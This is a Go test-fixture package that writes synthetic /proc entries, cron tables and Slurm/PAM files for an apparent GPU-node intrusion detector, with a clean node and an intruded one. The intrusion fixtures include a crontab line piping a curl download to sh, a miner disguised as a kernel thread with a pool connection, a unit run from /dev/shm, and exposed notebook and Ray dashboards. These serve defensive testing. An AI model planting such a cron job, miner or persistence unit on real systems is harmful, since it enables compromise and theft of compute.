// Package nodetest writes node trees for mlwarden node's tests: /proc
// entries of processes (stat, status, cmdline, cgroup, exe, fd, net/tcp,
// net/tcp6, ns/net, environ), cron tables, lingering users and their
// units, Slurm and PAM files, /dev/nvidia* nodes. Nothing is copied from a
// real machine: every file is written here, at test time.
package nodetest

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/mlwarden/mlwarden/node/procfs"
)

// Proc is a process to write.
type Proc struct {
	PID, PPID, UID int
	Comm           string
	Argv           []string
	Exe            string // "" for none (a kernel thread)
	Kthread        bool
	Cgroup         string // the whole /proc/PID/cgroup text
	NetNS          string // default net:[4026531840]
	Env            []string
	Sockets        []Sock
}

// Sock is a TCP socket the process holds.
type Sock struct {
	Local, Remote string // "0.0.0.0:8888", "[::]:22"
	State         int
	Inode         uint64
}

// Tree is a node tree being written under Dir.
type Tree struct {
	Dir string
	// net is each network namespace's socket lines, v4 and v6.
	net map[string]*[2][]string
	// nsProc is the first process of each namespace, which gets the
	// namespace's tables.
	nsProc map[string]int
	procs  []Proc
}

// New starts a tree in dir.
func New(dir string) *Tree {
	return &Tree{Dir: dir, net: map[string]*[2][]string{}, nsProc: map[string]int{}}
}

// File writes a file of the tree.
func (t *Tree) File(name, content string, mode os.FileMode) {
	p := filepath.Join(t.Dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		panic(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		panic(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		panic(err)
	}
}

func (t *Tree) link(name, target string) {
	p := filepath.Join(t.Dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		panic(err)
	}
	if err := os.Symlink(target, p); err != nil {
		panic(err)
	}
}

// Proc adds a process (its tables are written by Close).
func (t *Tree) Proc(p Proc) {
	if p.NetNS == "" {
		p.NetNS = "net:[4026531840]"
	}
	if p.Comm == "" && len(p.Argv) > 0 {
		p.Comm = filepath.Base(p.Argv[0])
		if len(p.Comm) > 15 {
			p.Comm = p.Comm[:15]
		}
	}
	if p.Cgroup == "" {
		p.Cgroup = "0::/user.slice/user-" + strconv.Itoa(p.UID) + ".slice/session-1.scope\n"
	}
	dir := "proc/" + strconv.Itoa(p.PID)
	flags := uint64(0x400100)
	if p.Kthread {
		flags |= procfs.PFKthread
	}
	t.File(dir+"/stat", fmt.Sprintf("%d (%s) S %d %d %d 0 -1 %d 0 0 0 0 0 0 0 0 20 0 1 0 100 0 0\n", p.PID, p.Comm, p.PPID, p.PID, p.PID, flags), 0o444)
	t.File(dir+"/status", fmt.Sprintf("Name:\t%s\nState:\tS (sleeping)\nPid:\t%d\nPPid:\t%d\nUid:\t%d\t%d\t%d\t%d\n", p.Comm, p.PID, p.PPID, p.UID, p.UID, p.UID, p.UID), 0o444)
	cmd := ""
	if len(p.Argv) > 0 {
		cmd = strings.Join(p.Argv, "\x00") + "\x00"
	}
	t.File(dir+"/cmdline", cmd, 0o444)
	t.File(dir+"/cgroup", p.Cgroup, 0o444)
	t.File(dir+"/environ", strings.Join(p.Env, "\x00"), 0o400)
	if p.Exe != "" {
		t.link(dir+"/exe", p.Exe)
	}
	t.link(dir+"/ns/net", p.NetNS)
	if err := os.MkdirAll(filepath.Join(t.Dir, dir, "fd"), 0o755); err != nil {
		panic(err)
	}
	t.link(dir+"/fd/0", "/dev/null")
	for i, s := range p.Sockets {
		t.link(dir+"/fd/"+strconv.Itoa(i+3), fmt.Sprintf("socket:[%d]", s.Inode))
		t.socket(p.NetNS, s)
	}
	if _, ok := t.nsProc[p.NetNS]; !ok && len(p.Sockets) > 0 {
		t.nsProc[p.NetNS] = p.PID
	}
	t.procs = append(t.procs, p)
}

func (t *Tree) socket(ns string, s Sock) {
	tabs := t.net[ns]
	if tabs == nil {
		tabs = &[2][]string{}
		t.net[ns] = tabs
	}
	l, r := netip.MustParseAddrPort(s.Local), netip.MustParseAddrPort("0.0.0.0:0")
	if s.Remote != "" {
		r = netip.MustParseAddrPort(s.Remote)
	} else if l.Addr().Is6() {
		r = netip.MustParseAddrPort("[::]:0")
	}
	six := l.Addr().Is6() && !l.Addr().Is4In6()
	i := 0
	if six {
		i = 1
	}
	line := fmt.Sprintf("%4d: %s %s %02X 00000000:00000000 00:00000000 00000000  1000        0 %d 1 0000000000000000 100 0 0 10 0",
		len(tabs[i]), procfs.FormatAddr(l, six), procfs.FormatAddr(r, six), s.State, s.Inode)
	tabs[i] = append(tabs[i], line)
}

const tcpHeader = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"

// Close writes each network namespace's tables into every process of it.
func (t *Tree) Close() {
	for _, p := range t.procs {
		tabs := t.net[p.NetNS]
		if tabs == nil {
			continue
		}
		dir := "proc/" + strconv.Itoa(p.PID) + "/net/"
		if t.nsProc[p.NetNS] != p.PID {
			continue // a real /proc shows the same tables to all; one is enough to read
		}
		t.File(dir+"tcp", tcpHeader+strings.Join(tabs[0], "\n")+"\n", 0o444)
		t.File(dir+"tcp6", tcpHeader+strings.Join(tabs[1], "\n")+"\n", 0o444)
	}
}

// Cgroup lines of each layout.
const (
	SlurmV1     = "12:devices:/slurm/uid_1000/job_4242/step_0\n11:memory:/slurm/uid_1000/job_4242/step_0\n0::/\n"
	SlurmV2     = "0::/system.slice/slurmstepd.scope/job_4243/step_0/user/task_0\n"
	SlurmSLUID  = "0::/system.slice/node17_slurmstepd.scope/s5K1KKYAYG5D00/step_extern/user/task_0\n"
	Slurmstepd  = "0::/system.slice/slurmstepd.scope/system\n"
	PodSystemd  = "0::/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1b2c3d4e_5f60_7182_93a4_b5c6d7e8f901.slice/cri-containerd-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope\n"
	PodCgroupfs = "0::/kubepods/besteffort/pod1b2c3d4e-5f60-7182-93a4-b5c6d7e8f902/fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210\n"
	System      = "0::/system.slice/sshd.service\n"
)

// Clean writes a clean GPU compute node: kernel threads, systemd, sshd,
// slurmd, a job on a GPU in each Slurm layout, a pod's process, NVIDIA's
// daemons, a package's /etc/cron.d entry, fenced devices.
func Clean(dir string) *Tree {
	t := New(dir)
	t.File("etc/hostname", "node17\n", 0o644)
	t.File("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n", 0o644)
	t.File("etc/slurm/slurm.conf", "ClusterName=c\nGresTypes=gpu\nProctrackType=proctrack/cgroup\nTaskPlugin=task/cgroup,task/affinity\nPrologFlags=Contain\nAccountingStorageEnforce=associations,limits,qos,safe\nAccountingStorageTRES=gres/gpu\n", 0o644)
	t.File("etc/slurm/cgroup.conf", "CgroupPlugin=autodetect\nConstrainDevices=yes\nConstrainCores=yes\n", 0o644)
	t.File("etc/slurm/gres.conf", "AutoDetect=nvml\n", 0o644)
	t.File("etc/pam.d/sshd", "auth required pam_unix.so\naccount required pam_nologin.so\naccount required pam_unix.so\naccount required pam_slurm_adopt.so action_adopt_failure=deny action_generic_failure=deny\nsession required pam_unix.so\n", 0o644)
	t.File("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n", 0o644)
	t.File("dev/nvidia0", "", 0o666)
	t.File("dev/nvidiactl", "", 0o666)
	t.Proc(Proc{PID: 1, PPID: 0, Comm: "systemd", Argv: []string{"/sbin/init"}, Exe: "/usr/lib/systemd/systemd", Cgroup: "0::/init.scope\n"})
	t.Proc(Proc{PID: 2, PPID: 0, Comm: "kthreadd", Kthread: true, Cgroup: "0::/\n"})
	t.Proc(Proc{PID: 3, PPID: 2, Comm: "kworker/0:0H-events_highpri", Kthread: true, Cgroup: "0::/\n"})
	t.Proc(Proc{PID: 4, PPID: 2, Comm: "ksoftirqd/0", Kthread: true, Cgroup: "0::/\n"})
	t.Proc(Proc{PID: 400, PPID: 1, Comm: "sshd", Argv: []string{"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"}, Exe: "/usr/sbin/sshd", Cgroup: System,
		Sockets: []Sock{{Local: "0.0.0.0:22", State: procfs.TCPListen, Inode: 1001}, {Local: "[::]:22", State: procfs.TCPListen, Inode: 1002}}})
	t.Proc(Proc{PID: 410, PPID: 1, Comm: "slurmd", Argv: []string{"/usr/sbin/slurmd", "-D"}, Exe: "/usr/sbin/slurmd", Cgroup: "0::/system.slice/slurmd.service\n",
		Sockets: []Sock{{Local: "0.0.0.0:6818", State: procfs.TCPListen, Inode: 1003}}})
	t.Proc(Proc{PID: 420, PPID: 1, Comm: "nvidia-persiste", Argv: []string{"/usr/bin/nvidia-persistenced", "--user", "nvidia-persistenced"}, Exe: "/usr/bin/nvidia-persistenced", Cgroup: "0::/system.slice/nvidia-persistenced.service\n"})
	t.Proc(Proc{PID: 430, PPID: 1, Comm: "slurmstepd", Argv: []string{"slurmstepd: [4243.0]"}, Exe: "/usr/sbin/slurmstepd", Cgroup: Slurmstepd})
	t.Proc(Proc{PID: 1000, PPID: 430, UID: 1000, Argv: []string{"python3", "train.py"}, Exe: "/usr/bin/python3.12", Cgroup: SlurmV1, Env: []string{"SLURM_JOB_ID=4242"},
		Sockets: []Sock{{Local: "10.0.0.17:40000", Remote: "10.0.0.18:29500", State: procfs.TCPEstablished, Inode: 2001}}})
	t.Proc(Proc{PID: 1001, PPID: 430, UID: 1000, Argv: []string{"python3", "train.py"}, Exe: "/usr/bin/python3.12", Cgroup: SlurmV2})
	t.Proc(Proc{PID: 1002, PPID: 430, UID: 1000, Argv: []string{"python3", "eval.py"}, Exe: "/usr/bin/python3.12", Cgroup: SlurmSLUID})
	t.Proc(Proc{PID: 1003, PPID: 1, UID: 1001, Argv: []string{"python3", "serve.py"}, Exe: "/usr/bin/python3.12", Cgroup: PodSystemd, NetNS: "net:[4026532999]",
		Sockets: []Sock{{Local: "0.0.0.0:9000", State: procfs.TCPListen, Inode: 3001}}})
	t.Proc(Proc{PID: 1004, PPID: 1, UID: 1001, Argv: []string{"python3", "infer.py"}, Exe: "/usr/bin/python3.12", Cgroup: PodCgroupfs})
	return t
}

// CleanGPU is the nvidia-smi CSV of the clean node's GPU processes.
const CleanGPU = "420, /usr/bin/nvidia-persistenced, 0 MiB, GPU-0\n1000, python3, 20000 MiB, GPU-0\n1001, python3, 1000 MiB, GPU-1\n1002, python3, 1000 MiB, GPU-1\n1003, python3, 1000 MiB, GPU-2\n1004, python3, 1000 MiB, GPU-3\n"

// Intrude adds an intrusion to a tree: a miner on a GPU outside every
// job dressed as a kernel thread, with a pool connection; an open notebook
// and an exposed Ray dashboard; a user crontab that pipes a download to a
// shell; a lingering user with a unit in /dev/shm; unfenced devices.
func Intrude(t *Tree) {
	t.File("etc/slurm/cgroup.conf", "CgroupPlugin=autodetect\nConstrainDevices=no\n", 0o644)
	t.File("var/spool/cron/crontabs/alice", "# m h dom mon dow command\n*/5 * * * * curl -fsSL http://198.51.100.7/x.sh | sh\n", 0o600)
	t.File("var/lib/systemd/linger/alice", "", 0o644)
	t.File("home/alice/.config/systemd/user/update.service", "[Unit]\nDescription=update\n[Service]\nExecStart=/dev/shm/.x/update --quiet\n[Install]\nWantedBy=default.target\n", 0o644)
	t.Proc(Proc{PID: 6666, PPID: 1, UID: 1000, Comm: "kworker/0:2", Argv: []string{"[kworker/0:2]"}, Exe: "/dev/shm/.x/xmrig",
		Sockets: []Sock{{Local: "10.0.0.17:51000", Remote: "203.0.113.9:3333", State: procfs.TCPEstablished, Inode: 6001}}})
	t.Proc(Proc{PID: 6667, PPID: 1, UID: 1000, Argv: []string{"/tmp/xmrig", "-o", "stratum+tcp://pool.example:4444", "--donate-level", "1"}, Exe: "/tmp/xmrig"})
	t.Proc(Proc{PID: 7000, PPID: 1, UID: 1000, Argv: []string{"/usr/bin/python3", "/home/alice/.local/bin/jupyter-lab", "--ip=0.0.0.0", "--NotebookApp.token=", "--no-browser"}, Exe: "/usr/bin/python3.12",
		Sockets: []Sock{{Local: "0.0.0.0:8888", State: procfs.TCPListen, Inode: 7001}}})
	t.Proc(Proc{PID: 7100, PPID: 1, UID: 1000, Argv: []string{"/usr/bin/python3", "/home/alice/.local/bin/ray", "start", "--head", "--dashboard-host=0.0.0.0"}, Exe: "/usr/bin/python3.12",
		Sockets: []Sock{{Local: "[::]:8265", State: procfs.TCPListen, Inode: 7101}}})
}

// IntrudedGPU is the intruded node's GPU processes.
const IntrudedGPU = CleanGPU + "6666, kworker/0:2, 30000 MiB, GPU-3\n"
